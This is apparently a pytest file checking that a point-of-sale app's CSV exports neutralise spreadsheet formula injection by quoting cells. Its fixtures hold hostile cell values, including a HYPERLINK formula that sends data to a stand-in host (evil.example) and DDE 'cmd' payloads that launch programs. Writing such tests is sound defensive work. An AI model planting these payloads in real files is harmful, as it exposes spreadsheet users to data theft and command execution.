"""No CSV the till writes can turn a spreadsheet against its reader (OWASP "CSV injection").

Products, makers, staff, approvers, return reasons and terminal references
start with = + - @, a tab or a carriage return; they are sold and taken back
through the services (tabs and carriage returns, which no service lets in,
are written straight into the catalog and staff tables). Every file of
``popup-pos export --csv`` is then read back with Python's csv module, cell by
cell: no text cell starts as a formula unless behind a ', and every amount is
a plain number equal to what the store holds, a negative one included.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from decimal import Decimal
from pathlib import Path

import pytest

from app.cli import main
from app.domain.cart import Discount, DiscountKind
from app.domain.returns import Disposition, ReturnLineRequest
from app.domain.staff import Role
from app.domain.tenders import Tender, TenderKind
from app.services import carts
from app.services.authorization import ManagerApproval
from app.services.returns import RecordReturn, record_return
from app.services.selling import CompleteSale, complete_sale
from app.services.staff import AddStaff, add_staff
from app.services.stock import receive_stock
from app.store.csv_export import ExportTable
from tests.conftest import DemoTill
from tests.integration.csv_columns import MONEY_COLUMNS

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
# name, variant, maker, price: every free-text cell of the catalog starts as a formula would.
PRODUCTS = {
    "INJ-1": (HYPERLINK, "+1 blue", "@Maker Evil", "12.52"),
    "INJ-2": ("-Mug, big", "=2+3", "=cmd|' /C calc'!A0", "3.05"),
    "INJ-3": ("@SUM(A1:A9)", "-", "+Ostwerk", "20.00"),
}
CASHIER, MANAGER = "=Eve", "@Ann"
RETURNER = "-Dan"
CARD_REFERENCE, REFUND_REFERENCE = "=1+1", "+REF-9"
REASON_CASH, REASON_CARD = "@broken", "=cmd|' /C notepad'!A0"
# Straight into the tables: the catalog names the products by their current name in stock_movements.csv,
# and staff by theirs in every file.
TAB_NAME, CR_VARIANT, CR_STAFF = "\t=2+5", "\r-3", "\r+Bob"

# Each file's amounts (MONEY_COLUMNS, each followed by its ``_minor`` twin) and counts: numbers, never text.
COUNT_COLUMNS = {"quantity", "line_no", "sale_line_no", "tender_index", "no_receipt"}
# The stored amounts per file, read from the tables themselves (not the export's queries), with the
# columns that tell the rows apart.
STORED = {
    ExportTable.SALES: "SELECT id AS sale_id, subtotal, discount_total, tax_total, total, rounding, change_given"
    " FROM sales",
    ExportTable.SALE_LINES: "SELECT sale_id, line_no, quantity, catalog_unit_price, unit_price, line_discount,"
    " cart_discount_share, tax, total FROM sale_lines",
    ExportTable.SALE_TENDERS: "SELECT sale_id, amount, tendered FROM sale_tenders",
    ExportTable.RETURNS: "SELECT id AS return_id, no_receipt, refund_total, rounding FROM returns",
    ExportTable.RETURN_LINES: "SELECT return_id, line_no AS sale_line_no, quantity, refund FROM return_lines",
    ExportTable.RETURN_REFUNDS: "SELECT return_id, amount, tender_index FROM return_refunds",
    ExportTable.STOCK_MOVEMENTS: "SELECT id AS movement_id, quantity FROM stock_movements",
}


def catalog_file(folder: Path) -> Path:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["sku", "name", "variant", "maker", "category", "tax_class", "price", "barcodes"])
    for sku, (name, variant, maker, price) in PRODUCTS.items():
        writer.writerow([sku, name, variant, maker, "Test", "standard", price, ""])
    path = folder / "catalog.csv"
    path.write_text(text.getvalue(), encoding="utf-8")
    return path


def run(demo: DemoTill, *args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdout", out)
        patch.setattr("sys.stderr", err)
        status = main(["--data-dir", str(demo.till.data_dir), *args])
    return status, out.getvalue(), err.getvalue()


def test_the_catalog_import_warns_about_cells_a_spreadsheet_would_run(demo: DemoTill, tmp_path: Path) -> None:
    status, out, _ = run(demo, "catalog", "import", str(catalog_file(tmp_path)))
    assert status == 0
    assert out.splitlines() == [
        "Catalog imported: 3 new, 0 updated, 3 new maker(s).",
        "Warning: 9 cell(s) start like a spreadsheet formula. They were imported as typed, and the CSV "
        "exports write them as text; rename them in the catalog if that was not meant:",
        "  line 2: the name starts with '=' — a spreadsheet would run it as a formula",
        "  line 2: the variant starts with '+' — a spreadsheet would run it as a formula",
        "  line 2: the maker starts with '@' — a spreadsheet would run it as a formula",
        "  line 3: the name starts with '-' — a spreadsheet would run it as a formula",
        "  line 3: the variant starts with '=' — a spreadsheet would run it as a formula",
        "  line 3: the maker starts with '=' — a spreadsheet would run it as a formula",
        "  line 4: the name starts with '@' — a spreadsheet would run it as a formula",
        "  line 4: the variant starts with '-' — a spreadsheet would run it as a formula",
        "  line 4: the maker starts with '+' — a spreadsheet would run it as a formula",
    ]
    # Names are data: imported as typed.
    status, out, _ = run(demo, "catalog", "lookup", "INJ-1")
    assert status == 0 and HYPERLINK in out
    # A clean file says nothing more.
    clean = tmp_path / "clean.csv"
    clean.write_text("sku,name,maker,tax_class,price\nOK-1,Mug,Kiln,standard,3.00\n", encoding="utf-8")
    assert run(demo, "catalog", "import", str(clean))[1] == "Catalog imported: 1 new, 0 updated, 1 new maker(s).\n"


def sell(demo: DemoTill, staff_id: str, skus: tuple[str, ...], tender: Tender | None = None) -> str:
    uow = demo.till.uow
    cart_id = carts.current_cart(staff_id, uow()).cart.cart_id
    for sku in skus:
        state = carts.scan(cart_id, sku, staff_id, uow())
    # Above the cashier's limit: the manager called @Ann approves, and is named as approver in the files.
    line_id = state.cart.lines[0].line_id
    discount = Discount(DiscountKind.PERCENT, Decimal(20))
    state = carts.discount_line(cart_id, line_id, discount, staff_id, uow(), ManagerApproval(MANAGER, "4444"))
    paid = tender or Tender(TenderKind.CASH, state.priced.total + 1000)
    return complete_sale(CompleteSale(cart_id, staff_id, (paid,)), uow()).sale_id


@pytest.fixture
def exported(demo: DemoTill, tmp_path: Path) -> Path:
    uow = demo.till.uow
    assert run(demo, "catalog", "import", str(catalog_file(tmp_path)))[0] == 0
    cashier = add_staff(AddStaff(CASHIER, Role.CASHIER, "3333", added_by=demo.manager), uow()).staff_id
    add_staff(AddStaff(MANAGER, Role.MANAGER, "4444", added_by=demo.manager), uow())
    returner = add_staff(AddStaff(RETURNER, Role.MANAGER, "5555", added_by=demo.manager), uow()).staff_id
    receive_stock([(sku, 5) for sku in PRODUCTS], demo.manager, uow())
    cash_sale = sell(demo, cashier, ("INJ-1", "INJ-2"))
    card_sale = sell(demo, cashier, ("INJ-3",), Tender(TenderKind.CARD, 1600, CARD_REFERENCE))
    record_return(
        RecordReturn(returner, cash_sale, (ReturnLineRequest(1, 1, REASON_CASH, Disposition.RESTOCK),)), uow()
    )
    record_return(
        RecordReturn(
            returner,
            card_sale,
            (ReturnLineRequest(1, 1, REASON_CARD, Disposition.WRITE_OFF),),
            card_refund_references={0: REFUND_REFERENCE},
        ),
        uow(),
    )
    with sqlite3.connect(demo.till.store_path) as db:
        db.execute("UPDATE products SET name = ?, variant = ? WHERE sku = 'INJ-2'", (TAB_NAME, CR_VARIANT))
        db.execute("UPDATE staff SET name = ? WHERE id = ?", (CR_STAFF, demo.manager))
    status, out, _ = run(demo, "export", "--csv", str(tmp_path / "export"))
    assert status == 0 and out.count("Saved ") == len(ExportTable)
    return tmp_path / "export"


def read_back(folder: Path, table: ExportTable) -> list[dict[str, str]]:
    with (folder / f"{table.value}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_no_text_cell_of_any_export_starts_as_a_formula(exported: Path, demo: DemoTill) -> None:
    neutralized: set[str] = set()
    negatives = 0
    for table in ExportTable:
        rows = read_back(exported, table)
        assert rows, f"{table.value}.csv has rows to check"
        for row in rows:
            for column, cell in row.items():
                if column.removesuffix("_minor") in MONEY_COLUMNS | COUNT_COLUMNS:
                    # A number, unprefixed: a spreadsheet sums it, and a negative one stays negative.
                    assert cell == "" or Decimal(cell).is_finite(), (table.value, column, cell)
                    negatives += cell.startswith("-")
                    continue
                assert not cell.startswith(FORMULA_STARTS), (table.value, column, cell)
                if cell.startswith("'"):
                    assert cell[1:].startswith(FORMULA_STARTS), (table.value, column, cell)
                    neutralized.add(cell[1:])
    assert negatives, "a negative amount (cash rounding) was checked"
    typed = {CASHIER, MANAGER, RETURNER, CARD_REFERENCE, REFUND_REFERENCE, REASON_CASH, REASON_CARD}
    catalog = {text for name, variant, maker, _price in PRODUCTS.values() for text in (name, variant, maker)}
    # A returned line is named with its variant: "name variant".
    returned = {f"{PRODUCTS[sku][0]} {PRODUCTS[sku][1]}" for sku in ("INJ-1", "INJ-3")}
    assert neutralized == typed | catalog | returned | {TAB_NAME, CR_VARIANT, CR_STAFF}


def test_each_file_names_the_hostile_values_behind_a_quote(exported: Path) -> None:
    lines = read_back(exported, ExportTable.SALE_LINES)
    assert {(line["name"], line["variant"], line["maker"]) for line in lines} == {
        (f"'{name}", f"'{variant}", f"'{maker}") for name, variant, maker, _price in PRODUCTS.values()
    }
    assert {line["approved_by"] for line in lines} == {f"'{MANAGER}", ""}, "the discounted lines, and the others"
    assert {sale["staff"] for sale in read_back(exported, ExportTable.SALES)} == {f"'{CASHIER}"}
    tenders = {(tender["kind"], tender["reference"]) for tender in read_back(exported, ExportTable.SALE_TENDERS)}
    assert ("card", f"'{CARD_REFERENCE}") in tenders
    assert {line["reason"] for line in read_back(exported, ExportTable.RETURN_LINES)} == {
        f"'{REASON_CASH}",
        f"'{REASON_CARD}",
    }
    refunds = read_back(exported, ExportTable.RETURN_REFUNDS)
    assert {(refund["kind"], refund["reference"]) for refund in refunds} >= {("card", f"'{REFUND_REFERENCE}")}
    movements = read_back(exported, ExportTable.STOCK_MOVEMENTS)
    assert {(m["sku"], m["name"], m["variant"]) for m in movements if m["sku"] == "INJ-2"} == {
        ("INJ-2", f"'{TAB_NAME}", f"'{CR_VARIANT}")
    }
    assert f"'{CR_STAFF}" in {m["staff"] for m in movements}, "the manager who received the stock"
    assert {m["staff"] for m in movements if m["kind"] == "sale"} == {f"'{CASHIER}"}


def test_every_amount_is_the_number_the_store_holds(exported: Path, demo: DemoTill) -> None:
    with sqlite3.connect(f"file:{demo.till.store_path}?mode=ro", uri=True) as db:
        db.row_factory = sqlite3.Row
        for table, query in STORED.items():
            stored = [dict(row) for row in db.execute(query)]
            columns = list(stored[0])
            written = []
            for row in read_back(exported, table):
                values: dict[str, object] = {}
                for column in columns:
                    cell = row[column]
                    if column.endswith("_id"):
                        values[column] = cell
                    elif column in COUNT_COLUMNS:
                        values[column] = int(cell) if cell else None
                    else:
                        # CHF: two decimals, the minor units as its twin, both the stored amount.
                        amount = Decimal(cell)
                        assert amount.as_tuple().exponent == -2, (table, column, cell)
                        assert amount.scaleb(2) == int(row[f"{column}_minor"]), (table, column, cell)
                        values[column] = int(amount.scaleb(2))
                written.append(values)

            def key(values: dict[str, object]) -> str:
                return repr(sorted(values.items()))

            assert sorted(written, key=key) == sorted(stored, key=key), table
    rounding = {int(sale["rounding_minor"]) for sale in read_back(exported, ExportTable.SALES)}
    assert any(amount < 0 for amount in rounding), "the cash sale of 12.52 + 3.05 less 20 % rounds down"
